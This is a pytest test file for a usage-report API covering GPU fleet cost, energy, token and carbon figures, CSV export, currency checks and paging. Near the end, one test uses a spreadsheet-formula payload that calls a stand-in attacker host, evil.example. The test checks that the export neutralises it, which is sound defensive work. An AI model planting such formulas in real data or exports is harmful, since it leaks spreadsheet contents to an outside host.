"""The usage report, selector and API, against the hand-worked ledger of conftest.py."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import ROUND_HALF_UP, Decimal

import pytest

from accounting.ledger import CurrencyMismatchError
from accounting.ledger.units import significant
from accounting.models import NodePrice
from accounting.node_hour_lines import ledger_node_hours_compute
from common.periods import Granularity
from fleets.models import Fleet
from reports.selectors import GroupBy, ReportFilters, UsageSpec, report_rows, report_rows_count
from telemetry.models import EndpointHourUsage
from tests.helpers.factories import SiteFactory
from tests.helpers.reports import (
    END,
    H1,
    H2,
    H3,
    H100_EMBODIED_G_PER_H,
    LONG_AGO,
    RTX_EMBODIED_G_PER_H,
    START,
    h100_node,
    h100_usage,
)

URL = "/api/v1/reports/usage/"
pytestmark = pytest.mark.django_db


def places(value: Decimal, digits: int = 6) -> float:
    return float(value.quantize(Decimal(1).scaleb(-digits), ROUND_HALF_UP))


def get(client, **params):
    response = client.get(URL, {"start": START.isoformat(), "end": END.isoformat(), **params})
    assert response.status_code == 200, response.content
    return response.json()


def rows_by_key(body):
    return {row["group_key"]: row for row in body["results"]}


def test_totals_per_fleet_are_worked_by_hand(fleets, client_a):
    body = get(client_a, granularity="total", group_by="fleet")

    rows = rows_by_key(body)
    enterprise, consumer = rows[str(fleets.enterprise.pk)], rows[str(fleets.consumer.pk)]
    assert (body["count"], len(rows)) == (2, 2)
    # 3 hours x (1.8 MJ + 3.6 MJ) = 4.5 kWh IT, x 1.2 = 5.4 kWh facility; 3 x 0.54 + 3 x 5.00
    assert {
        key: enterprise[key]
        for key in ("group_label", "currency", "held_h", "gpu_h", "coverage", "it_kwh", "facility_kwh")
    } == {
        "group_label": "enterprise",
        "currency": "USD",
        "held_h": 3.0,
        "gpu_h": 6.0,
        "coverage": 1.0,
        "it_kwh": 4.5,
        "facility_kwh": 5.4,
    }
    assert (enterprise["electricity_cost"], enterprise["hardware_cost"], enterprise["cost"]) == (
        "1.62",
        "15.00",
        "16.62",
    )
    assert (enterprise["prompt_tokens"], enterprise["generation_tokens"], enterprise["tokens"]) == (
        3_000_000,
        1_500_000,
        4_500_000,
    )
    # Unit figures keep 4 significant digits: 16.62 / 4.5M tokens = 3.69333 → "3.693" (not "3.69");
    # per output token 16.62 / 1.5M = 11.08.
    assert (enterprise["cost_per_1m_output_tokens"], enterprise["cost_per_1m_tokens"]) == ("11.08", "3.693")
    assert (enterprise["it_j_per_token"], enterprise["facility_j_per_token"]) == (3.6, 4.32)
    # 16.2 MJ IT and 19.44 MJ facility over 1.5M output tokens.
    assert (enterprise["it_j_per_output_token"], enterprise["facility_j_per_output_token"]) == (10.8, 12.96)
    assert (enterprise["location_kgco2e"], enterprise["market_kgco2e"]) == (1.08, 0.27)  # 5.4 kWh x 200 g, x 50 g
    embodied_g = 3 * H100_EMBODIED_G_PER_H
    assert enterprise["embodied_kgco2e_central"] == places(embodied_g / 1000)
    assert enterprise["embodied_kgco2e_low"] == places(3 * (2 * Decimal("78.8") + 625) * 1000 / 35040 / 1000)
    assert enterprise["embodied_kgco2e_high"] == places(3 * (2 * Decimal("315.2") + 625) * 1000 / 35040 / 1000)
    assert enterprise["gco2e_per_1k_tokens"] == float(significant((1080 + embodied_g) / 4_500_000 * 1000))
    assert enterprise["gco2e_per_1k_output_tokens"] == float(significant((1080 + embodied_g) / 1_500_000 * 1000))
    assert (enterprise["idle_gpu_h"], enterprise["idle_cost"], enterprise["idle_share"]) == (3.0, "8.58", 0.5)
    # Idle energy beside idle cost: GPU 1's own 3.6 MJ = 1 kWh x PUE 1.2, three hours.
    assert enterprise["idle_facility_kwh"] == 3.6
    assert (enterprise["hardware_unpriced_h"], enterprise["electricity_unpriced_h"]) == (0.0, 0.0)
    # 16.62 over 6 GPU-hours = 2.77; electricity 1.62 over 5.4 kWh = the 0.30 tariff.
    assert (enterprise["cost_per_gpu_h"], enterprise["electricity_cost_per_kwh"]) == ("2.770", "0.3000")

    # consumer: 3 x 1.464 = 4.392 → 4.39; electricity 3 x 0.264 = 0.792 → 0.79
    assert (consumer["electricity_cost"], consumer["hardware_cost"], consumer["cost"]) == ("0.79", "3.60", "4.39")
    assert (consumer["cost_per_1m_output_tokens"], consumer["cost_per_1m_tokens"]) == ("4.880", "1.627")
    # 4.392 over 12 GPU-hours = 0.366; electricity 0.792 over 3.96 kWh = the 0.20 tariff.
    assert (consumer["cost_per_gpu_h"], consumer["electricity_cost_per_kwh"]) == ("0.3660", "0.2000")
    assert (consumer["it_j_per_token"], consumer["facility_j_per_token"]) == (4.8, 5.28)
    assert (consumer["location_kgco2e"], consumer["market_kgco2e"]) == (0.792, None)  # no market factor: unknown
    assert consumer["market_unknown_facility_kwh"] == 3.96
    assert consumer["gco2e_per_1k_tokens"] == float(significant((792 + 3 * RTX_EMBODIED_G_PER_H) / 2_700_000 * 1000))
    # Rounded once: 3 x 0.366 = 1.098 → 1.10 (three rounded hours would say 1.11).
    assert (consumer["idle_gpu_h"], consumer["idle_cost"], consumer["idle_share"]) == (3.0, "1.10", 0.25)
    assert consumer["idle_facility_kwh"] == 0.99  # GPU 3: 0.3 kWh x 1.1, three hours


def test_day_buckets_split_at_utc_midnight_and_month_buckets_at_the_month(fleets, client_a):
    days = get(client_a, granularity="day", group_by="fleet", fleet=fleets.enterprise.pk)["results"]
    months = get(client_a, granularity="month", group_by="fleet", fleet=fleets.enterprise.pk)["results"]

    # H1 is 31 Oct 23:00, H2 and H3 are 1 Nov: each bucket cut to the period asked for.
    assert [(r["period_start"], r["period_end"], r["cost"]) for r in days] == [
        ("2026-10-31T23:00:00Z", "2026-11-01T00:00:00Z", "5.54"),
        ("2026-11-01T00:00:00Z", "2026-11-01T02:00:00Z", "11.08"),
    ]
    assert [(r["period_start"], r["period_end"], r["cost"]) for r in months] == [
        ("2026-10-31T23:00:00Z", "2026-11-01T00:00:00Z", "5.54"),
        ("2026-11-01T00:00:00Z", "2026-11-01T02:00:00Z", "11.08"),
    ]


def test_whole_buckets_when_the_period_is_whole(fleets, client_a):
    body = client_a.get(URL, {"period": "2026-10", "granularity": "month", "group_by": "fleet"}).json()

    assert [(r["period_start"], r["period_end"], r["group_label"], r["cost"]) for r in body["results"]] == [
        ("2026-10-01T00:00:00Z", "2026-11-01T00:00:00Z", "enterprise", "5.54"),
        ("2026-10-01T00:00:00Z", "2026-11-01T00:00:00Z", "consumer", "1.46"),
    ]


def test_hourly_rows_are_ordered_by_hour_then_group(fleets, client_a):
    body = get(client_a, granularity="hour", group_by="fleet")

    assert [(r["period_start"], r["group_label"], r["cost"]) for r in body["results"]] == [
        ("2026-10-31T23:00:00Z", "enterprise", "5.54"),
        ("2026-10-31T23:00:00Z", "consumer", "1.46"),
        ("2026-11-01T00:00:00Z", "enterprise", "5.54"),
        ("2026-11-01T00:00:00Z", "consumer", "1.46"),
        ("2026-11-01T01:00:00Z", "enterprise", "5.54"),
        ("2026-11-01T01:00:00Z", "consumer", "1.46"),
    ]


@pytest.mark.parametrize(
    ("group_by", "keys"),
    [
        ("organization", lambda f: {str(f.h100.fleet.organization_id): ("Org A", "21.01")}),
        ("site", lambda f: {str(f.h100.site_id): ("sjc-1", "16.62"), str(f.rtx.site_id): ("sjc-2", "4.39")}),
        ("node", lambda f: {str(f.h100.pk): ("h100-a", "16.62"), str(f.rtx.pk): ("rtx-a", "4.39")}),
        (
            "gpu_model",
            lambda f: {
                "h100-sxm": ("NVIDIA H100 SXM 80GB", "16.62"),
                "rtx-4090": ("NVIDIA GeForce RTX 4090 24GB", "4.39"),
            },
        ),
        ("currency", lambda f: {"USD": ("USD", "21.01")}),
        ("none", lambda f: {None: (None, "21.01")}),
    ],
)
def test_group_by_each_dimension(fleets, client_a, group_by, keys):
    body = get(client_a, granularity="total", group_by=group_by)

    assert {r["group_key"]: (r["group_label"], r["cost"]) for r in body["results"]} == keys(fleets)


def test_gpu_model_label_is_the_catalog_name(fleets, client_a):
    body = get(client_a, granularity="total", group_by="gpu_model", gpu_model="h100-sxm")

    assert [(r["group_key"], r["cost"]) for r in body["results"]] == [("h100-sxm", "16.62")]
    assert "H100" in body["results"][0]["group_label"]


@pytest.mark.parametrize(
    ("param", "value", "cost"),
    [
        ("fleet", lambda f: f.consumer.pk, "4.39"),
        ("site", lambda f: f.h100.site_id, "16.62"),
        ("node", lambda f: f.rtx.pk, "4.39"),
        ("gpu_model", lambda f: "rtx-4090", "4.39"),
        ("currency", lambda f: "USD", "21.01"),
        ("organization", lambda f: "org-a", "21.01"),
        ("organization", lambda f: f.h100.fleet.organization_id, "21.01"),
    ],
)
def test_filters(fleets, client_a, param, value, cost):
    body = get(client_a, granularity="total", **{param: value(fleets)})

    assert [r["cost"] for r in body["results"]] == [cost]


def test_filters_repeat(fleets, client_a):
    body = get(client_a, granularity="total", group_by="node", node=[fleets.h100.pk, fleets.rtx.pk])

    assert body["count"] == 2


def test_a_filter_matching_nothing_gives_no_rows(fleets, client_a):
    assert get(client_a, granularity="total", gpu_model="a100-sxm4-80gb")["results"] == []


def test_pages_with_limit_and_offset(fleets, client_a):
    first = get(client_a, granularity="hour", group_by="fleet", limit=4)
    second = client_a.get(first["next"]).json()

    assert (first["count"], len(first["results"]), first["previous"]) == (6, 4, None)
    assert "offset=4" in first["next"]
    assert (len(second["results"]), second["next"]) == (2, None)
    assert "offset" not in second["previous"]
    assert [r["period_start"] for r in second["results"]] == ["2026-11-01T01:00:00Z"] * 2


def test_hardware_cost_is_split_into_rent_depreciation_and_running_cost(fleets, client_a):
    rows = rows_by_key(get(client_a, granularity="total", group_by="fleet"))
    as_csv = client_a.get(
        URL,
        {
            "start": START.isoformat(),
            "end": END.isoformat(),
            "format": "csv",
            "group_by": "fleet",
            "granularity": "total",
        },
    )
    table = list(csv.DictReader(io.StringIO(b"".join(as_csv.streaming_content).decode())))

    split = ("rent_cost", "depreciation_cost", "opex_cost", "hardware_cost")
    # rented: 3 h x 2 GPUs x 2.50 of rent; owned: 3 h x (35,040 / 35,040 h by hour + 0.20 running cost)
    assert [rows[str(fleets.enterprise.pk)][key] for key in split] == ["15.00", "0.00", "0.00", "15.00"]
    assert [rows[str(fleets.consumer.pk)][key] for key in split] == ["0.00", "3.00", "0.60", "3.60"]
    assert {row["group_label"]: [row[key] for key in split] for row in table} == {
        "enterprise": ["15.00", "0.00", "0.00", "15.00"],
        "consumer": ["0.00", "3.00", "0.60", "3.60"],
    }


def test_csv_streams_every_row_with_units_in_the_header(fleets, client_a):
    response = client_a.get(
        URL,
        {"start": START.isoformat(), "end": END.isoformat(), "granularity": "hour", "group_by": "fleet", "limit": 1},
        HTTP_ACCEPT="text/csv",
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    table = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(table) == 6  # not paged
    header = list(table[0])
    assert header[:5] == ["period_start", "period_end", "group_key", "group_label", "currency"]
    assert {"cost", "facility_kwh", "location_kgco2e", "embodied_kgco2e_central", "gco2e_per_1k_tokens"} <= set(header)
    assert not [column for column in header if column.endswith("_usd")]
    first = table[0]
    assert (first["period_start"], first["group_label"], first["currency"], first["cost"]) == (
        "2026-10-31T23:00:00Z",
        "enterprise",
        "USD",
        "5.54",
    )
    assert (first["facility_kwh"], first["location_kgco2e"]) == ("1.8", "0.36")
    consumer = table[1]
    assert consumer["market_kgco2e"] == ""  # unknown, not zero


def test_csv_by_format_parameter_has_a_header_even_without_rows(db, client_a):
    response = client_a.get(URL, {"period": "2026-11", "format": "csv"})

    lines = b"".join(response.streaming_content).decode().splitlines()
    assert response.status_code == 200
    assert lines[0].startswith("period_start,period_end,group_key,group_label,currency,")
    assert lines[1:] == []


def test_named_periods(fleets, client_a):
    def total(period):
        body = client_a.get(URL, {"period": period, "granularity": "total"}).json()
        return [(r["period_start"], r["period_end"], r["cost"]) for r in body["results"]]

    # Each hour costs 5.54 + 1.464 = 7.004.
    assert total("2026-10") == [("2026-10-01T00:00:00Z", "2026-11-01T00:00:00Z", "7.00")]
    assert total("2026-11") == [("2026-11-01T00:00:00Z", "2026-12-01T00:00:00Z", "14.01")]
    assert total("2026-Q4") == [("2026-10-01T00:00:00Z", "2027-01-01T00:00:00Z", "21.01")]
    assert total("2026") == [("2026-01-01T00:00:00Z", "2027-01-01T00:00:00Z", "21.01")]
    assert total("2026-Q3") == []


@pytest.mark.parametrize(
    "params",
    [
        {"period": "2026-13"},
        {"period": "26"},
        {"period": "2026-11", "start": "2026-11-01T00:00:00Z"},
        {"start": "2026-11-01T00:00:00Z"},
        {"start": "2026-11-01T00:30:00Z", "end": "2026-11-02T00:00:00Z"},
        {"start": "2026-11-02T00:00:00Z", "end": "2026-11-01T00:00:00Z"},
        {"period": "2026", "granularity": "week"},
        {"period": "2026", "group_by": "rack"},
        {"period": "2026", "limit": 0},
        {"period": "2026", "currency": "usd"},
    ],
)
def test_bad_parameters_are_refused_with_400(db, client_a, params):
    response = client_a.get(URL, params)

    assert response.status_code == 400, response.content
    assert response["Content-Type"] == "application/json"


def test_without_a_period_the_report_covers_the_dashboards_last_7_days_and_says_so(fleets, client_a, time_machine):
    # 2026-11-07 00:30 UTC: the last 7 days run to the end of the last complete hour (the hour in progress is
    # not shown), 2026-10-31 00:00 to 2026-11-07 00:00.
    time_machine.move_to(datetime(2026, 11, 7, 0, 30, tzinfo=UTC), tick=False)

    response = client_a.get(URL, {"granularity": "total"})
    explicit = client_a.get(
        URL, {"start": "2026-10-31T00:00:00Z", "end": "2026-11-07T00:00:00Z", "granularity": "total"}
    )

    assert response.status_code == 200, response.content
    body = response.json()
    assert body["period"] == "last 7 days (the default without period, start or end)"
    assert (body["start"], body["end"]) == ("2026-10-31T00:00:00Z", "2026-11-07T00:00:00Z")
    assert (body["complete_through"], body["includes_open_hours"]) == ("2026-11-07T00:00:00Z", False)
    assert explicit.json()["period"] == "start/end"
    assert body["results"] == explicit.json()["results"]
    assert [r["cost"] for r in body["results"]] == ["21.01"]  # H1-H3: 16.62 enterprise + 4.392 consumer


def test_start_and_end_with_an_offset_are_read_as_utc(fleets, client_a):
    body = client_a.get(
        URL, {"start": "2026-11-01T01:00:00+01:00", "end": "2026-11-01T03:00:00+01:00", "granularity": "total"}
    ).json()

    assert body["start"] == "2026-11-01T00:00:00Z"
    assert [r["cost"] for r in body["results"]] == ["14.01"]  # H2 and H3


def test_mixed_currencies_in_one_row_are_refused_not_added(fleets, client_a, org_a):
    eur_site = SiteFactory(organization=org_a, name="fra-1", grid_zone="DE", currency="EUR", pue=Decimal("1.20"))
    eur_node = h100_node(org_a, fleet=fleets.consumer, site=eur_site)
    h100_usage(eur_node)

    refused = client_a.get(URL, {"period": "2026-11", "granularity": "total"})
    by_fleet = client_a.get(URL, {"period": "2026-11", "granularity": "total", "group_by": "fleet"})
    as_csv = client_a.get(URL, {"period": "2026-11", "granularity": "total", "format": "csv"})
    by_site = client_a.get(URL, {"period": "2026-11", "granularity": "total", "group_by": "site"})
    by_currency = client_a.get(URL, {"period": "2026-11", "granularity": "total", "group_by": "currency"})
    only_eur = client_a.get(URL, {"period": "2026-11", "granularity": "total", "currency": "EUR"})
    # A page that holds every row is counted and checked as read; one that does not, by a query of its own.
    first_of_two = client_a.get(URL, {"period": "2026-11", "granularity": "total", "group_by": "fleet", "limit": 1})

    for response in (refused, by_fleet, as_csv, first_of_two):
        assert response.status_code == 400
        assert response["Content-Type"] == "application/json"
        assert "EUR and USD" in response.json()["detail"]
        assert "group by site or currency" in response.json()["detail"]
    assert sorted((r["group_label"], r["currency"]) for r in by_site.json()["results"]) == [
        ("fra-1", "EUR"), ("sjc-1", "USD"), ("sjc-2", "USD"),
    ]  # fmt: skip
    assert {(r["group_key"], r["cost"]) for r in by_currency.json()["results"]} == {("EUR", "11.08"), ("USD", "14.01")}
    assert [(r["currency"], r["cost"]) for r in only_eur.json()["results"]] == [("EUR", "11.08")]


@pytest.mark.parametrize("chunk_rows", [2000, 1], ids=["one chunk", "streamed in chunks"])
def test_a_csv_of_mixed_currencies_is_refused_before_its_first_row(fleets, client_a, org_a, monkeypatch, chunk_rows):
    monkeypatch.setattr("reports.selectors.usage.STREAM_CHUNK_ROWS", chunk_rows)
    eur_site = SiteFactory(organization=org_a, name="fra-1", grid_zone="DE", currency="EUR")
    h100_usage(h100_node(org_a, fleet=fleets.consumer, site=eur_site))

    response = client_a.get(URL, {"period": "2026-11", "granularity": "day", "group_by": "fleet", "format": "csv"})

    assert response.status_code == 400
    assert "EUR and USD" in response.json()["detail"]


def test_selector_refuses_mixed_currencies(fleets, org_a):
    eur_site = SiteFactory(organization=org_a, name="fra-1", grid_zone="DE", currency="EUR")
    h100_usage(h100_node(org_a, fleet=fleets.consumer, site=eur_site))

    with pytest.raises(CurrencyMismatchError):
        report_rows(
            spec=UsageSpec(
                organization_ids=[org_a.pk], start=START, end=END, granularity=Granularity.DAY, group_by=GroupBy.FLEET
            )
        )


def test_unpriced_hours_are_counted_not_priced_at_zero(fleets, client_a, org_a):
    lab = Fleet.objects.create(organization=org_a, name="lab")
    node = h100_node(org_a, fleet=lab, site=fleets.h100.site)
    NodePrice.objects.filter(fleet=lab).delete()
    h100_usage(node)

    body = get(client_a, granularity="total", fleet=lab.pk)

    row = body["results"][0]
    assert (row["hardware_unpriced_h"], row["electricity_unpriced_h"], row["hardware_cost"]) == (3.0, 0.0, "0.00")


def test_no_tokens_gives_null_per_token_figures(fleets, client_a):
    EndpointHourUsage.objects.filter(endpoint__node=fleets.rtx).update(prompt_tokens=0, generation_tokens=0)
    ledger_node_hours_compute(node_id=fleets.rtx.pk, hour_starts=[H1, H2, H3])

    row = get(client_a, granularity="total", fleet=fleets.consumer.pk)["results"][0]

    assert row["tokens"] == 0
    assert (row["cost_per_1m_tokens"], row["it_j_per_token"], row["gco2e_per_1k_tokens"]) == (None, None, None)


def test_selector_rows_keep_full_precision_and_page_in_sql(fleets, org_a):
    spec = UsageSpec(
        organization_ids=[org_a.pk],
        start=START,
        end=END,
        granularity=Granularity.HOUR,
        group_by=GroupBy.NODE,
        filters=ReportFilters(node_ids=frozenset({fleets.rtx.pk})),
    )

    rows = report_rows(spec=spec, offset=1, limit=1)

    assert report_rows_count(spec=spec) == 3
    assert [(row.period_start, row.group_label) for row in rows] == [(H2, "rtx-a")]
    totals = rows[0].sums.totals
    assert (totals.cost, totals.idle_cost, totals.currency) == (Decimal("1.464"), Decimal("0.366"), "USD")
    assert rows[0].sums.totals.cost_per_1m_tokens == Decimal("1.464") / Decimal("0.9")


def test_report_reads_a_constant_number_of_queries(fleets, org_a, django_assert_max_num_queries):
    # the currency check, the group labels, the rows, and the organization's own profiles (the embodied
    # factors' sources every row names): one model and one intensity source per node-hour needs no more
    with django_assert_max_num_queries(4):
        report_rows(spec=UsageSpec(
            organization_ids=[org_a.pk], start=LONG_AGO, end=datetime(2027, 1, 1, tzinfo=UTC),
            granularity=Granularity.HOUR, group_by=GroupBy.NODE,
        ))  # fmt: skip


def test_a_name_a_spreadsheet_would_run_is_exported_as_text(fleets, client_a):
    fleets.enterprise.name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    fleets.enterprise.save()
    response = client_a.get(
        URL, {"start": START.isoformat(), "end": END.isoformat(), "granularity": "total", "group_by": "fleet"},
        HTTP_ACCEPT="text/csv",
    )  # fmt: skip
    table = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    labels = sorted(row["group_label"] for row in table)
    assert labels == ['\'=HYPERLINK("http://evil.example/?"&A1,"open")', "consumer"]


@pytest.mark.parametrize("chunk_rows", [2000, 1], ids=["read at once", "streamed in chunks"])
def test_the_streamed_rows_are_the_report_s_rows_whether_read_at_once_or_in_chunks(
    fleets, org_a, monkeypatch, chunk_rows
):
    from reports.selectors import report_rows_iter

    monkeypatch.setattr("reports.selectors.usage.STREAM_CHUNK_ROWS", chunk_rows)
    spec = UsageSpec(
        organization_ids=[org_a.pk], start=START, end=END, granularity=Granularity.HOUR, group_by=GroupBy.NODE
    )

    streamed = list(report_rows_iter(spec=spec))

    assert len(streamed) == 6
    assert streamed == report_rows(spec=spec)
